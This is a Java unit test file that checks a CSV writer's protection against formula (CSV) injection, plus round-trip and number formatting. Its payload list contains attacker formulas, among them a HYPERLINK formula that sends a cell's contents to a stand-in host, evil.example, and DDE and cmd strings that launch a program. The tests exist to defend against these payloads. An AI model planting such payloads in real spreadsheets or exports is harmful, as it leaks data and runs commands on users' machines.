package se.regionorebrolan.tillaggsbelopp.input;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every CSV file the program writes is safe to open in a spreadsheet (OWASP "CSV
 * injection", docs/decisions/0024): a text that would start a formula gets a single quote
 * and double quotes, numbers stay numbers, and the readers take the quote off again.
 */
class SafeCsvWriterTests {

	private static final CSVFormat COMMA = CSVFormat.Builder.create(CSVFormat.RFC4180).setRecordSeparator('\n').get();

	/** Formula payloads as an attacker types them into a name or a source. */
	static Stream<String> payloads() {
		return Stream.of("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")", "+cmd|' /C calc'!A0", "-2+3",
				"@SUM(1+1)", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=1+1", "'=1+1", "''-2");
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("payloads")
	void writesAFormulaAsQuotedTextWithASingleQuoteBefore(String payload) throws IOException {
		String written = write(List.of("9001", payload, new BigDecimal("7227365")));

		String field = "\"'" + payload.replace("\"", "\"\"") + "\"";
		assertThat(written).isEqualTo("9001," + field + ",7227365\n");
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("payloads")
	void readsBackWhatItWrote(String payload) throws IOException {
		List<String> read = readBack(write(List.of(payload, "Alfa")));

		assertThat(read).containsExactly(payload, "Alfa");
	}

	@Test
	void writesNumbersAsTheyAreANegativeAmountToo() throws IOException {
		String written = write(List.of(new BigDecimal("-28257"), new BigDecimal("1E+3"), -5, 2027L));

		assertThat(written).isEqualTo("-28257,1000,-5,2027\n");
	}

	@Test
	void leavesOrdinaryTextAsTheDialectWritesIt() throws IOException {
		assertThat(write(List.of("Örebro", "Stad, norra", "Sägen \"X\"", "'citat'", "a=b", "2027-01")))
			.isEqualTo("Örebro,\"Stad, norra\",\"Sägen \"\"X\"\"\",'citat',a=b,2027-01\n");
	}

	@Test
	void guardsOnlyTextsThatWouldStartAFormula() {
		assertThat(SafeCsvWriter.guarded("-2+3")).isEqualTo("'-2+3");
		assertThat(SafeCsvWriter.guarded("'-2+3")).isEqualTo("''-2+3");
		assertThat(SafeCsvWriter.guarded("'citat'")).isEqualTo("'citat'");
		assertThat(SafeCsvWriter.guarded("")).isEmpty();
		assertThat(SafeCsvWriter.unguarded("'citat'")).isEqualTo("'citat'");
		assertThat(SafeCsvWriter.unguarded("'")).isEqualTo("'");
		assertThat(SafeCsvWriter.unguarded("=1+1")).isEqualTo("=1+1");
	}

	/**
	 * Seeded random texts of quotes, formula characters, separators and letters read back
	 * to themselves, whatever they start with.
	 */
	@Test
	void readsBackAnyText() throws IOException {
		SplittableRandom random = new SplittableRandom(14);
		String alphabet = "'=+-@\t\r\n\",;aö 1";
		for (int i = 0; i < 2000; i++) {
			StringBuilder text = new StringBuilder();
			for (int length = random.nextInt(6); length > 0; length--) {
				text.append(alphabet.charAt(random.nextInt(alphabet.length())));
			}
			assertThat(readBack(write(List.of(text.toString(), "x")))).as(text.toString())
				.containsExactly(text.toString(), "x");
		}
	}

	private static String write(List<?> values) throws IOException {
		StringWriter out = new StringWriter();
		try (SafeCsvWriter csv = new SafeCsvWriter(out, COMMA)) {
			csv.record(values);
		}
		return out.toString();
	}

	private static List<String> readBack(String csv) throws IOException {
		List<String> values = new ArrayList<>();
		try (CSVParser parser = CSVParser.builder().setReader(new StringReader(csv)).setFormat(COMMA).get()) {
			for (CSVRecord row : parser) {
				row.forEach(value -> values.add(SafeCsvWriter.unguarded(value)));
			}
		}
		return values;
	}

}
